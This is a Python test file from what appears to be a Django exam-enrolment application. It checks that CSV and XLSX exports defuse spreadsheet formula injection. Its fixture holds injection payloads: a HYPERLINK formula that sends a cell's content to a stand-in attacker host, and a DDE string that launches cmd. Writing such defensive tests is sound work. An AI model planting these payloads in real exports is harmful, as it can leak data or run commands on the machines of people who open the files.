"""Issue 10, finding 3: a cell a person typed never becomes a live formula in a
spreadsheet. Every export (enrolments, exam results, jury grid; CSV and XLSX)
goes through the one writer, `c2i.lib.tabular`, which neutralises them."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from c2i.enrolment.models import Candidate
from c2i.lib.tabular import neutralise
from tests.assessment_support import start

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = {
    "last_name": '=HYPERLINK("http://attaquant.example/?x="&A1;"clic")',
    "first_names": "@SUM(1+1)*cmd|' /C calc'!A0",
    "birth_place": "+33-cmd",
}


@pytest.fixture
def hostile_a1(demo):
    candidate = demo.candidate("candidat-a1")
    Candidate.objects.filter(pk=candidate.pk).update(**HOSTILE)
    return candidate


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_csv_neutral(content: bytes, *expected: str) -> None:
    cells = [cell for row in csv_rows(content) for cell in row]
    for value in expected:
        assert value not in cells, f"{value!r} written as is"
        assert "'" + value in cells, f"{value!r} not found neutralised"
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not re.fullmatch(r"-[\d,.]+", c))]


def assert_xlsx_neutral(content: bytes, *expected: str) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in archive.read(n).decode() for n in sheets), "a formula in the workbook"
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for value in expected:
        assert value in cells, f"{value!r} not kept as typed"
        assert cells[value].data_type == "s" and cells[value].quotePrefix


class TestEveryExport:
    def test_enrolments_csv_and_xlsx(self, demo, hostile_a1) -> None:
        client = demo.client("correspondant-a")
        url = f"/gestion/sessions/{demo.institution_session('a').pk}/?export="
        csv_response = client.get(url + "csv")
        assert csv_response.status_code == 200
        assert_csv_neutral(csv_response.content, *HOSTILE.values())
        assert_xlsx_neutral(client.get(url + "xlsx").content, *HOSTILE.values())

    def test_exam_results_csv_and_xlsx(self, demo, hostile_a1) -> None:
        attempt = start(demo)
        client = demo.client("correspondant-a")
        url = f"/correspondant/epreuves/{attempt.exam_id}/resultats/?format="
        names = (HOSTILE["last_name"], HOSTILE["first_names"])
        assert_csv_neutral(client.get(url + "csv").content, *names)
        assert_xlsx_neutral(client.get(url + "xlsx").content, *names)

    def test_jury_grid_csv(self, demo, hostile_a1) -> None:
        response = demo.client("jury-a").get(f"/jury/sessions/{demo.institution_session('a').pk}/grille.csv")
        assert response.status_code == 200
        # the grid's name column reads "first names LAST NAME"
        full_name = f"{HOSTILE['first_names']} {HOSTILE['last_name'].upper()}"
        assert_csv_neutral(response.content, full_name)


class TestTheWriter:
    @pytest.mark.parametrize(
        ("value", "written"),
        [
            ("=1+1", "'=1+1"),
            ("+33 6", "'+33 6"),
            ("-cmd", "'-cmd"),
            ("@A1", "'@A1"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-12,5", "-12,5"),  # a plain number stays a number
            ("-3", "-3"),
            ("Dupont", "Dupont"),
            ("Jean-Pierre", "Jean-Pierre"),
            (None, ""),
            (12, 12),
        ],
    )
    def test_it_neutralises_only_formula_like_texts(self, value, written) -> None:
        assert neutralise(value) == written

    def test_no_other_module_writes_a_spreadsheet(self) -> None:
        writers = re.compile(r"csv\.writer|csv\.DictWriter|Workbook\(|text/csv")
        offenders = [
            str(path.relative_to(ROOT))
            for path in (ROOT / "c2i").rglob("*.py")
            if path != ROOT / "c2i" / "lib" / "tabular.py" and writers.search(path.read_text(encoding="utf-8"))
        ]
        assert offenders == []
